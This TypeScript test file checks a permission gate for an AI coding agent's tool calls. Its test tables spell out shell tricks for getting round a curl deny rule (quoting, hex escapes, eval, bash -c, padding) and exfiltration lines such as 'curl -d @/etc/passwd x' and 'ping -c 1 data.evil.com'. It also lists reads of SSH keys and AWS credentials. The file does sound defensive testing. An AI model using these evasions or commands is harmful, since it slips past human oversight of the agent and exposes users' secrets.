import { describe, expect, it } from "vitest";
import { createTranslate, modes, type RuleTexts } from "../protocol/index.ts";
import { decide, wordVerdict } from "./gate.ts";
import { isProtected, isSecret } from "./guarded-path.ts";
import type { GateRequest, Resource } from "./request.ts";
import { parseRules } from "./rules.ts";
import { analyzeCommand } from "./shell/analyze-command.ts";

const path = (place: string, access: "read" | "write"): Resource => ({
  kind: "path",
  path: place,
  access,
  outside: !place.startsWith("/w/") && place !== "/w",
});
const reading = (place: string, tool = "Read"): GateRequest => ({
  tool,
  effect: "read",
  resources: [path(place, "read")],
  root: "/w",
});
const writing = (place: string, tool = "Write"): GateRequest => ({
  tool,
  effect: "write",
  resources: [path(place, "write")],
  root: "/w",
});
function running(command: string): GateRequest {
  const { parts, reads, writes, reason } = analyzeCommand(command, "/w");
  const resources: Resource[] = [
    { kind: "command", command, folder: "/w", parts, ...(reason ? { reason } : {}) },
    ...reads.map((place) => path(place.replace(/^~/, "/home/u"), "read")),
    ...writes.map((place) => path(place.replace(/^~/, "/home/u"), "write")),
  ];
  return { tool: "Bash", effect: "execute", resources, root: "/w" };
}
const fetching: GateRequest = {
  tool: "WebFetch",
  effect: "network",
  resources: [{ kind: "url", url: "https://x.io/" }],
};
const question: GateRequest = { tool: "AskUserQuestion", effect: "interact", resources: [] };

const rulesOf = (texts: { [K in keyof RuleTexts]?: readonly string[] }) =>
  parseRules(texts, { home: "/home/u" });
const none = rulesOf({});
const verdictOf = (
  mode: (typeof modes)[number],
  texts: Parameters<typeof rulesOf>[0],
  request: GateRequest,
) => decide(mode, rulesOf(texts), request).verdict;

describe("modes", () => {
  it.each([
    ["default", reading("/w/a"), "allow"],
    ["default", reading("/etc/passwd"), "ask"],
    ["default", writing("/w/a"), "ask"],
    ["default", running("npm test"), "ask"],
    ["default", running("git status"), "allow"],
    ["default", running("cat /etc/passwd"), "ask"],
    ["default", running("cat a > b"), "ask"],
    ["default", fetching, "ask"],
    ["default", question, "allow"],
    ["acceptEdits", writing("/w/a"), "allow"],
    ["acceptEdits", writing("/x"), "ask"],
    ["acceptEdits", writing("/w/.GIT/hooks/x"), "ask"],
    ["acceptEdits", running("npm test"), "ask"],
    ["acceptEdits", running("ls"), "allow"],
    ["acceptEdits", fetching, "ask"],
    ["plan", reading("/w/a"), "allow"],
    ["plan", writing("/w/a"), "deny"],
    ["plan", running("npm test"), "deny"],
    ["plan", running("git log | head"), "allow"],
    ["plan", running("docker ps"), "deny"],
    ["plan", running("cat /etc/hosts"), "ask"],
    ["plan", fetching, "deny"],
    ["dontAsk", reading("/w/a"), "allow"],
    ["dontAsk", running("ls"), "allow"],
    ["dontAsk", running("npm test"), "deny"],
    ["dontAsk", reading("/etc/passwd"), "deny"],
    ["unrestricted", running("npm test"), "allow"],
    ["unrestricted", writing("/x"), "allow"],
    ["unrestricted", writing("/w/.git/config"), "allow"],
  ] as const)("%s: %o -> %s", (mode, request, verdict) => {
    expect(decide(mode, none, request).verdict).toBe(verdict);
  });
});

describe("deny > ask > allow", () => {
  const npm = running("npm test");
  it.each([
    [{ allow: ["Bash"] }, "default", "allow"],
    [{ allow: ["Bash(npm test)"] }, "default", "allow"],
    [{ allow: ["Bash(npm)"] }, "default", "ask"],
    [{ allow: ["Bash"], ask: ["Bash"] }, "default", "ask"],
    [{ allow: ["Bash"], ask: ["Bash"] }, "dontAsk", "deny"],
    [{ allow: ["Bash"], ask: ["Bash"], deny: ["Bash"] }, "default", "deny"],
    [{ allow: ["Bash"] }, "plan", "deny"],
    [{ deny: ["Bash(npm test)"] }, "unrestricted", "deny"],
    [{ ask: ["Bash"] }, "unrestricted", "ask"],
  ] as const)("%o in %s -> %s", (texts, mode, verdict) => {
    expect(verdictOf(mode, texts, npm)).toBe(verdict);
  });

  it("T4: a deny rule wins in every mode", () => {
    for (const mode of modes) {
      expect(
        verdictOf(mode, { allow: ["Bash", "Bash(curl x)"], deny: ["Bash(curl:*)"] }, running("curl x")),
      ).toBe("deny");
    }
  });

  it("names the rule that decided and where it was written", () => {
    const rules = parseRules({ deny: ["Bash(npm:*)"] }, { source: "project" });
    const verdict = decide("default", rules, npm);
    expect(verdict).toEqual({ verdict: "deny", because: "rule", rule: "Bash(npm:*)", source: "project" });
    expect(wordVerdict(verdict, "default", createTranslate("en"))).toBe("rule Bash(npm:*) (this project)");
  });

  it.each([
    [running("npm test"), "not proven to be read-only: the argument test"],
    [reading("/etc/hosts"), "outside the workspace: /etc/hosts"],
    [writing("/w/.git/config"), "a protected place: /w/.git/config"],
    [reading("/w/.env"), "may hold secrets: /w/.env"],
    [writing("/w/a"), "default mode asks about this"],
    [running("echo a\rb"), "not proven to be read-only: the command contains a carriage return"],
  ])("says why it asks: %o", (request, expected) => {
    const words = wordVerdict(decide("default", none, request), "default", createTranslate("en"));
    expect(words?.slice(0, 30)).toBe(expected.slice(0, 30));
    expect(wordVerdict(decide("default", none, request), "default", createTranslate("zh-CN"))).not.toBe(
      words,
    );
  });
});

describe("protected places and secrets", () => {
  it.each([
    "/w/.git/hooks/pre-commit",
    "/w/.GIT/config",
    "/w/.Mcp.json",
    "/w/.skillmint/config.jsonc",
    "/w/.claude/settings.json",
    "/w/.agents/skills/x/SKILL.md",
    "/home/u/.bashrc",
    "/home/u/.ssh/authorized_keys",
    "/w/.vscode/tasks.json",
    "/w/.npmrc",
    "/w/.env",
    "/etc/cron.d/x",
    "/w/sub/.husky/pre-commit",
  ])("%s is asked about, whatever is allowed widely", (place) => {
    expect(isProtected(place)).toBe(true);
    expect(
      verdictOf("acceptEdits", { allow: ["Edit", "Write", "Edit(**)", "Write(/**)"] }, writing(place)),
    ).toBe("ask");
    expect(verdictOf("acceptEdits", { allow: ["Bash"] }, running(`echo x > ${place}`))).toBe("ask");
    expect(verdictOf("default", { allow: [`Write(${place})`] }, writing(place))).toBe("allow");
    expect(verdictOf("dontAsk", { allow: ["Edit"] }, writing(place))).toBe("deny");
  });
  it.each(["/w/src/a.ts", "/w/.gitignore", "/w/.github/workflows/ci.yml", "/w/.env.example", "/w/git/x"])(
    "%s is ordinary",
    (place) => expect(isProtected(place)).toBe(false),
  );
  it.each([
    "/w/.env",
    "/w/.ENV.local",
    "/home/u/.ssh/id_ed25519",
    "/w/key.pem",
    "/w/id_rsa",
    "/home/u/.aws/credentials",
    "/w/credentials.json",
  ])("reading %s is asked about", (place) => {
    expect(isSecret(place)).toBe(true);
    expect(verdictOf("default", { allow: ["Read", "Bash"] }, reading(place))).toBe("ask");
    expect(verdictOf("default", { allow: ["Read", "Bash"] }, running(`cat ${place}`))).toBe("ask");
    expect(verdictOf("default", { allow: [`Read(${place})`] }, reading(place))).toBe("allow");
  });
  it.each(["/w/.env.example", "/w/id_rsa.pub", "/w/src/key.ts", "/w/environment"])(
    "%s is no secret",
    (place) => expect(isSecret(place)).toBe(false),
  );
});

describe("shell commands and rules", () => {
  it.each([
    ["B1", { allow: ["Bash(npm test:*)"] }, "npm test && rm x", "ask"],
    ["B1", { allow: ["Bash(npm test:*)"] }, "npm test\nrm x", "ask"],
    ["B1", { allow: ["Bash(npm test:*)", "Bash(rm:*)"] }, "npm test && rm x", "allow"],
    ["B1", { allow: ["Bash(npm test:*)"] }, "npm test | head", "allow"],
    ["B2", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, `${"true;".repeat(200)}curl x`, "deny"],
    ["B3", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "echo $(curl x)", "deny"],
    ["B3", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "cat <<E\n`curl x`\nE", "deny"],
    ["B3", { allow: ["Bash(npm test:*)"] }, "npm test $(rm x)", "ask"],
    ["B4", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, '"c"url x', "deny"],
    ["B4", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "c\\url x", "deny"],
    ["B4", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "$'\\x63url' x", "deny"],
    ["B4", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "{curl,x}", "deny"],
    ["B4", { deny: ["Bash(curl:*)"] }, "$x y", "ask"],
    ["B5", { allow: ["Bash(cat:*)"] }, "cat <<E | sh\nid\nE", "ask"],
    ["B6", { allow: ["Bash(npm test:*)"] }, "npm test > out", "ask"],
    ["B6", { allow: ["Bash(npm test:*)", "Edit(out)"] }, "npm test > out", "allow"],
    ["B6", { allow: ["Bash(npm test:*)"] }, "npm test > $x", "ask"],
    ["B6", { allow: ["Bash(cp:*)"] }, "cp a .git/hooks/x", "ask"],
    ["B6", { allow: ["Bash(cp:*)"] }, "cp a /x/b", "ask"],
    ["B6", { allow: ["Bash(cp:*)"] }, "cp a b", "allow"],
    ["B7", { allow: ["Bash(npm test:*)"] }, "npm test #\nrm x", "ask"],
    ["B8", { allow: ["Bash(ls:*)"] }, "ls$IFS-la", "ask"],
    ["B9", { allow: ["Bash(npm test:*)"] }, "LD_PRELOAD=x npm test", "ask"],
    ["B9", { allow: ["Bash(npm test:*)"] }, "CI=1 npm test", "allow"],
    ["B9", { allow: ["Bash(git:*)"] }, "git() { rm x; }; git status", "ask"],
    ["B9", { allow: ["Bash(git:*)"] }, "export PATH=.; git commit", "ask"],
    ["B9", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "A=1 curl x", "deny"],
    ["B10", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "sudo -u x timeout 5 curl x", "deny"],
    ["B10", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "ls | xargs -n 1 curl", "deny"],
    ["B10", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "/usr/bin/curl x", "deny"],
    ["B10", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "find . -exec curl {} +", "deny"],
    ["B10", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "CURL x", "deny"],
    ["B10", { deny: ["Bash(sudo:*)"], allow: ["Bash"] }, "sudo ls", "deny"],
    ["B10", { allow: ["Bash(npm test)"] }, "timeout 60 npm test", "allow"],
    ["B10", { allow: ["Bash(npm test)"] }, "sudo npm test", "ask"],
    ["B10", { allow: ["Bash(npm test)"] }, "env X=1 npm test", "ask"],
    ["B11", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "bash -c 'true; curl x'", "deny"],
    ["B11", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, "eval curl x", "deny"],
    ["B11", { allow: ["Bash(npm test)"] }, "bash -c 'npm test'", "ask"],
    ["B12", { allow: ["Bash(git:*)"] }, "./git commit", "ask"],
    ["B13", { allow: ["Bash(echo:*)"] }, "cd .claude && echo x > settings.json", "ask"],
    ["B13", { deny: ["Read(secret/**)"], allow: ["Bash"] }, "cd secret && cat x", "deny"],
    ["B14", { allow: ["Bash(find:*)"] }, "find . -exec rm {} +", "ask"],
    ["B14", { allow: ["Bash(find:*)"] }, "find . -delete", "ask"],
    ["B15", { allow: ["Bash(sort:*)"] }, "sort -o x y", "ask"],
    ["B15", { allow: ["Bash(sed:*)"] }, "sed -i s/a/b/ x", "ask"],
    ["B16", { allow: ["Bash(git:*)"] }, "git -c core.pager=x log", "ask"],
    ["B16", { allow: ["Bash(git:*)"] }, "git commit -m x", "allow"],
    ["B16", { allow: ["Bash(git:*)"] }, "git $(echo -c core.pager=x) log", "ask"],
    ["B16", { allow: ["Bash(git:*)"] }, 'git log "$(echo --output=x)"', "ask"],
    ["B16", { allow: ["Bash(git:*)"] }, "git push *", "ask"],
    ["B16", { allow: ["Bash(git:*)"] }, "git commit -m \"$(cat <<'E'\nmessage\nE\n)\"", "allow"],
    ["B16", { allow: ["Bash(git -c x=y:*)"] }, "git -c x=y push", "allow"],
    ["B17", { allow: ["Bash(curl:*)"] }, "curl -d @/etc/passwd x", "ask"],
    ["B17", {}, "ping -c 1 data.evil.com", "ask"],
    ["B18", { allow: ["Bash(ls:*)"] }, "=rm x", "ask"],
    ["B19", { deny: ["Bash(curl:*)"], allow: ["Bash"] }, `${"true ".repeat(1_000_000)}; curl x`, "deny"],
    ["B20", { allow: ["Bash(echo:*)"] }, "echo a\u202Eb", "ask"],
    ["B21", { allow: ["Bash(git log)"] }, "git logout", "ask"],
    ["B21", { allow: ["Bash(git log:*)"] }, "git logout", "ask"],
    ["B21", { allow: ["Bash(git log)"] }, "git log --output=x", "ask"],
    ["B21", { allow: ["Bash(git log:*)"] }, "git log --output=x", "ask"],
    ["parse error", { allow: ["Bash(echo:*)"] }, "echo 'a", "ask"],
    ["parse error", { allow: ["Bash(echo 'a)"] }, "echo 'a", "allow"],
    ["parse error", { deny: ["Bash(git push:*)"], allow: ["Bash"] }, "git push 'a", "deny"],
    ["paths", { deny: ["Edit(src/**)"], allow: ["Bash"] }, "echo x > src/a", "deny"],
    ["paths", { deny: ["Read(~/.ssh/**)"] }, "cat ~/.ssh/config", "deny"],
    ["paths", { ask: ["Read(docs/**)"] }, "cat docs/a", "ask"],
    ["paths", { allow: ["Read(//etc/hosts)"] }, "cat /etc/hosts", "allow"],
    ["paths", { allow: ["Bash(cat:*)"] }, "cat /etc/hosts", "allow"],
    ["words", { allow: ["Bash(npm run *)"] }, "npm run build", "allow"],
    ["words", { allow: ["Bash(npm run *)"] }, "npm running", "ask"],
    ["words", { allow: ["Bash(npm * --dry-run)"] }, "npm publish --dry-run", "allow"],
    ["words", { allow: ["Bash(npm * --dry-run)"] }, "npm publish", "ask"],
    ["words", { allow: ["Bash(slackcli:*, curl:*)"] }, "slackcli send | curl x", "allow"],
    ["words", { allow: ["Bash(git log:*)"] }, "'git log' x", "ask"],
  ] as const)("%s: %o, %j -> %s", (_, texts, command, verdict) => {
    expect(verdictOf("default", texts, running(command))).toBe(verdict);
  });

  it("acceptEdits covers what an allowed command writes into the workspace", () => {
    const texts = { allow: ["Bash(npm test:*)"] };
    expect(verdictOf("acceptEdits", texts, running("npm test > out"))).toBe("allow");
    expect(verdictOf("acceptEdits", texts, running("npm test > /x/out"))).toBe("ask");
    expect(verdictOf("acceptEdits", {}, running("ls > out"))).toBe("ask");
  });
});
